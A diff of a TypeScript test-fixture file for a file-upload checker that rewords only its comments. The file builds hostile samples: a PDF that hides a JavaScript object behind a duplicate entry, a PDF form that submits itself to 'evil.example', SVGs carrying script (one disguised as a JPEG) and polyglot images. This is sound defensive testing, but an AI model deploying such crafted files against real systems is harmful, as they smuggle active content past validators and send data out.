@@ -31,7 +31,7 @@ const attached = (spec: string, ...objects: (string | Buffer)[]): Buffer =>
     objects: [`<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS ${spec}>>`, ...objects],
   });
 
-/** A PDF that has its first object twice: readers follow the list at the end, to the one with a script. */
+/** A PDF in which an object occurs twice: readers follow the table at the end, to the one with a script. */
 function twice(): Buffer {
   const catalog = "<</Type/Catalog/Pages 2 0 R";
   const file = opening(`<</S/JavaScript${script}>>`).toString("latin1");
@@ -67,7 +67,7 @@ export const activePdfs: Record<string, () => Buffer> = {
   "a form that is sent by itself": () => opening("<</S 6 0 R/F(https://evil.example/)>>", "/SubmitForm"),
 };
 
-/** PDFs that an office has, which must be taken. */
+/** Ordinary PDFs of an office, which must be accepted. */
 export const ordinaryPdfs: Record<string, () => Buffer> = {
   "one page": () => onePage(),
   "three pages": () => pages(3),
@@ -81,7 +81,7 @@ export const ordinaryPdfs: Record<string, () => Buffer> = {
 
 const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`;
 
-/** Files that are no picture and no PDF, or far too large. */
+/** Files that are neither pictures nor PDFs, or far too large. */
 export const refusedFiles: Record<string, () => SentFile | Promise<SentFile>> = {
   "an SVG": () => ({ name: "a.svg", bytes: bytesOf(svg) }),
   "an SVG as a JPEG": () => ({ name: "a.jpg", bytes: bytesOf(svg) }),
@@ -104,7 +104,7 @@ export const refusedFiles: Record<string, () => SentFile | Promise<SentFile>> = 
   }),
 };
 
-/** Pictures with something else behind them: what is kept must be made again. */
+/** Pictures with something else appended: the stored file must be re-encoded. */
 export const polyglots: Record<string, () => Promise<SentFile>> = {
   "a JPEG with a page behind it": async () => ({
     name: "a.jpg",
